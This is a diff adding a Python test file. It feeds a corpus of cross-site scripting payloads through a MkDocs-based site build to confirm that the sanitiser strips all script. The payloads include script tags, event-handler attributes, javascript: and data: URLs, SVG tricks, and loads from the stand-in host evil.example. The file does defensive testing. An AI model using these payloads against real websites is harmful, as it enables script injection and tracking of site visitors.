@@ -1,0 +1,255 @@
+"""No contributed Markdown or front matter can put script into the site.
+
+A corpus of attacks is built into a real site through the real build (MkDocs, the hub's
+hooks, the sanitiser, the generated pages), with only the validator switched off: the
+validator refuses most of these files, and the build must not depend on it. The output is
+read with an HTML parser: nothing executable survives, and every front matter value shows
+as the text it was, wherever it is rendered. The real site is scanned the same way, and the
+Content-Security-Policy of the pages is checked in Chromium, online and from file://.
+"""
+
+from __future__ import annotations
+
+import re
+from html.parser import HTMLParser
+from pathlib import Path
+
+import pytest
+import yaml
+
+from .browser import block_network, serve
+from .hubs import build_hub
+from .sitescan import executable_content, third_party_loads
+
+
+def value(n: int) -> str:
+    """A front matter value that is markup, template code, Markdown and quotes at once.
+
+    AXT<n>Z marks where it is rendered; the checks then want the whole value there, as text.
+    """
+    return (f'AXT{n}Z <script>alert("x{n}")</script><img src=# onerror=alert({n})> "dq" \'sq\' '
+            f'{{{{ 7*7 }}}} {{% if 1 %}}jinja{{% endif %}} **đậm** [liên kết](javascript:alert({n})) '
+            f'&lt;b&gt; &amp; `mã` </title></textarea></pre></script><!-- -->')
+
+
+VALUES: dict[int, str] = {}
+
+
+def v(n: int) -> str:
+    VALUES[n] = value(n)
+    return VALUES[n]
+
+
+# Markdown bodies: raw HTML, Markdown-level tricks and Markdown extensions' syntax.
+BODY = """
+Mở đầu.
+
+<script>alert("body-script")</script>
+<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>
+<img src="#" onerror="alert('img')">
+<p onclick="alert('p')" onmouseover="alert('p2')">đoạn</p>
+<a href="javascript:alert('a')">a</a>
+<a href=" JaVaScRiPt:alert('spaces')">b</a>
+<a href="java&#x09;script:alert('tab')">c</a>
+<a href="&#106;avascript:alert('entity')">d</a>
+<a href="vbscript:msgbox('vb')">e</a>
+<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">f</a>
+<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+">
+<svg onload="alert('svg')"><script>alert('svg-script')</script><a xlink:href="javascript:alert('x')"><text>t</text></a></svg>
+<math><mtext><script>alert('math')</script></mtext></math>
+<iframe src="https://evil.example/"></iframe>
+<iframe srcdoc="<script>alert('srcdoc')</script>"></iframe>
+<object data="https://evil.example/x.swf"></object>
+<embed src="https://evil.example/x.swf">
+<form action="javascript:alert('form')"><button formaction="javascript:alert('btn')">nút</button></form>
+<meta http-equiv="refresh" content="0;url=javascript:alert('meta')">
+<base href="https://evil.example/">
+<link rel="stylesheet" href="https://evil.example/x.css">
+<style>body{background:url("https://evil.example/bg.png")}</style>
+<div style="background:url(javascript:alert('style'))">s</div>
+<details open ontoggle="alert('details')"><summary>x</summary>y</details>
+<input autofocus onfocus="alert('input')">
+<noscript><p title="</noscript><img src=# onerror=alert('noscript')>"></p></noscript>
+<!-- --><script>alert("comment-1")</script><!-- -->
+<!--> <script>alert("comment-2")</script> -->
+<!--[if IE]><script>alert("conditional")</script><![endif]-->
+<div id="__config">giả cấu hình</div>
+
+[liên kết markdown](javascript:alert('md'))
+[hoa thường](JAVASCRIPT:alert('md2'))
+[dữ liệu](data:text/html,<script>alert('md-data')</script>)
+![ảnh](data:image/svg+xml,<svg onload=alert('md-img')>)
+![ảnh ngoài](https://evil.example/track.png)
+![ảnh ngoài 2](//evil.example/track2.png)
+<javascript:alert('autolink')>
+[tham chiếu][ref]
+
+[ref]: javascript:alert('ref')
+
+## Tiêu đề có thuộc tính {: onclick="alert('attr-list')" }
+
+## Tiêu đề &lt;script&gt;alert('heading')&lt;/script&gt; &lt;img src=# onerror=alert('h2')&gt; <img src="#" onerror="alert('h3')">
+
+## Nhãn mục lục {: data-toc-label="<img src=# onerror=alert('toc-label')>" }
+
+Đoạn có thuộc tính.
+{: onmouseover="alert('attr-list-2')" style="background:url(javascript:alert(1))" }
+
+[liên kết thuộc tính](https://example.org/){: onclick="alert('attr-list-3')" }
+
+!!! note "<script>alert('admonition')</script><img src=# onerror=alert('adm')>"
+    Nội dung ghi chú.
+
+??? note "<img src=# onerror=alert('details-title')>"
+    Nội dung.
+
+```html
+</code></pre><script>alert("code")</script>
+```
+
+`</code><script>alert("inline-code")</script>`
+"""
+
+BODY_EN = BODY.replace("Mở đầu.", "Introduction.")
+
+
+def _item(meta: dict, body: str = BODY) -> str:
+    return "---\n" + yaml.safe_dump(meta, allow_unicode=True, sort_keys=False) + "---\n" + body
+
+
+COMMON = dict(sectors=["noi-vu"], audiences=["can-bo"], level="co-ban", unit="ban-bien-tap",
+              published="2026-10-01", updated="2026-10-02", license="CC-BY-4.0")
+
+
+def corpus() -> dict[str, str]:
+    files = {
+        "guides/tan-cong.vi.md": _item(dict(
+            title=v(1), summary=v(2), **COMMON, tags=[v(3)], authors=[{"role": v(4), "name": v(5)}],
+            ai_tools=["chatgpt"], related=["prompts/tan-cong", "use_cases/tan-cong"],
+            # Meta keys Material itself reads, straight into its templates.
+            description=v(6), author=v(7))),
+        "guides/tan-cong.en.md": _item(dict(
+            translation_of="00000000", title=v(11), summary=v(12), tags=[v(13)],
+            authors=[{"role": v(14)}], description=v(16)), BODY_EN),
+        # A page that asks for Material's redirect template, whose script takes the address
+        # from front matter.
+        "guides/chuyen-huong.vi.md": _item(dict(
+            title="Chuyển hướng", summary="Trang thử chuyển hướng.", **COMMON,
+            tags=[], authors=[{"role": "Biên tập viên"}],
+            template="redirect.html", location="javascript:alert('redirect')")),
+        "prompts/tan-cong.vi.md": _item(dict(
+            title=v(21), summary=v(22), **COMMON, tags=[], authors=[{"role": "Biên tập viên"}],
+            ai_tools=["chatgpt"],
+            prompts=[
+                {"id": "mot", "task": v(23), "text": v(24) + "\nDòng hai {{noi_dung}}\n" + v(25),
+                 "variables": [{"name": "noi_dung", "label": {"vi": v(26), "en": v(27)}, "example": v(28)}],
+                 "data_safety": "an-danh-truoc", "tested_with": [{"tool": "chatgpt", "date": "2026-10"}],
+                 "example_output": v(29)},
+                {"id": "hai", "task": "Không biến", "text": v(30),
+                 "data_safety": "cong-khai", "tested_with": [{"tool": "chatgpt", "date": "2026-10"}]},
+            ])),
+        "prompts/tan-cong.en.md": _item(dict(
+            translation_of="00000000", title=v(31), summary=v(32),
+            prompts=[{"id": "mot", "task": v(33), "text": v(34) + "\nLine two {{noi_dung}}", "example_output": v(35)}]),
+            BODY_EN),
+        "use_cases/tan-cong.vi.md": _item(dict(
+            title=v(41), summary=v(42), **{**COMMON, "unit": "vi-du-tan-cong"}, tags=[v(43)],
+            authors=[{"role": "Cán bộ"}], illustrative=False, stage="thi-diem", ai_tools=["chatgpt"],
+            results=[{"metric": v(44), "before": 240, "after": 90, "unit": v(45), "period": v(46), "evidence": v(47)}],
+            time_saved={"minutes": 150, "per": v(48)}, cost={"vnd_per_month": 0, "note": v(49)},
+            prerequisites=[v(50)],
+            sources=[{"title": v(51), "url": "javascript:alert('source')"},
+                     {"title": "Nguồn dữ liệu", "url": "data:text/html,<script>alert('source2')</script>"}]),
+            BODY + "\n## Vấn đề\n\nx\n\n## Cách làm\n\nx\n\n## Cách dùng AI\n\nx\n\n## Kết quả\n\nx\n\n"
+                   "## Khó khăn\n\nx\n\n## Cách nhân rộng\n\n1. <script>alert('step')</script> Bước một\n"
+                   "2. [bước](javascript:alert('step2'))\n"),
+        "use_cases/tan-cong.en.md": _item(dict(
+            translation_of="00000000", title=v(61), summary=v(62),
+            results=[{"metric": v(63), "unit": v(64), "period": v(65), "evidence": v(66)}],
+            time_saved={"per": v(67)}, cost={"note": v(68)}, prerequisites=[v(69)]),
+            BODY_EN),
+        "docs/tan-cong.vi.md": _item(dict(title=v(71), description=v(72)), BODY),
+    }
+    return files
+
+
+# A contributing unit whose name is an attack too (data/units.yml is contributed as well).
+UNIT = ("\n- id: vi-du-tan-cong\n  kind: xa\n  illustrative: true\n  sector: chinh-quyen-xa\n"
+        f"  name: {{vi: {yaml.safe_dump(value(81)).strip()!s}, en: {yaml.safe_dump(value(82)).strip()!s}}}\n")
+
+
+@pytest.fixture(scope="module")
+def attack_site(tmp_path_factory) -> Path:
+    import aixutra.site.hooks as hooks
+    from aixutra.model import Hub
+
+    hub = tmp_path_factory.mktemp("attacks") / "hub"
+    files = corpus()
+    VALUES[81], VALUES[82] = value(81), value(82)
+    with pytest.MonkeyPatch.context() as patch:
+        # The validator would refuse this content: switch it off, keep the rest of the build.
+        patch.setattr(hooks, "check", lambda root: (Hub.load(root), []))
+        from .hubs import make_hub
+        make_hub(hub, files)
+        units = hub / "data" / "units.yml"
+        units.write_text(units.read_text(encoding="utf-8") + UNIT, encoding="utf-8")
+        from aixutra.build import build_site
+        result = build_site(hub, hub / "site")
+    assert result.ok, "\n".join(result.messages)
+    return hub / "site"
+
+
+def test_attack_pages_were_built(attack_site):
+    # The checks below mean something only if the attacks reached the site.
+    for rel in ("guides/tan-cong.html", "en/guides/tan-cong.html", "prompts/tan-cong.html",
+                "en/prompts/tan-cong.html", "use_cases/tan-cong.html", "en/use_cases/tan-cong.html",
+                "tan-cong.html"):
+        text = (attack_site / rel).read_text(encoding="utf-8")
+        assert "AXT" in text and "Nội dung ghi chú" in text, rel
+
+
+def test_nothing_executable_survives(attack_site):
+    problems = executable_content(attack_site)
+    assert not problems, "\n".join(problems)
+
+
+def test_attacks_load_nothing_from_other_hosts(attack_site):
+    loads = third_party_loads(attack_site)
+    assert not loads, "\n".join(loads)
+
+
+class _Texts(HTMLParser):
+    """Text nodes and attribute values, as a browser decodes them."""
+
+    def __init__(self):
+        super().__init__(convert_charrefs=True)
+        self.texts: list[str] = []
+
+    def handle_starttag(self, tag, attrs):
+        self.texts += [value or "" for _, value in attrs]
+
+    def handle_data(self, data):
+        self.texts.append(data)
+
+
+MARK = re.compile(r"AXT(\d+)Z")
+
+
+def _normal(text: str) -> str:
+    return " ".join(text.split())
+
+
+def test_every_front_matter_value_is_shown_as_text(attack_site):
+    """Where a value is rendered, all of it is there as text: no part became markup or code."""
+    broken, seen = [], set()
+    for path in sorted(attack_site.rglob("*.html")):
+        parser = _Texts()
+        parser.feed(path.read_text(encoding="utf-8"))
+        for text in parser.texts:
+            for n in {int(m) for m in MARK.findall(text)}:
+                seen.add(n)
+                if _normal(VALUES[n]) not in _normal(text):
+                    broken.append(f"{path.relative_to(attack_site)}: value {n} rendered as {text[:160]!r}")
+    assert not broken, "\n".join(broken)
+    # The values a reader sees on the item pages were found at all.
+    assert {1, 2, 21, 22, 23, 24, 29, 41, 44, 45, 46, 48, 49, 50}.issubset(seen), sorted(seen)
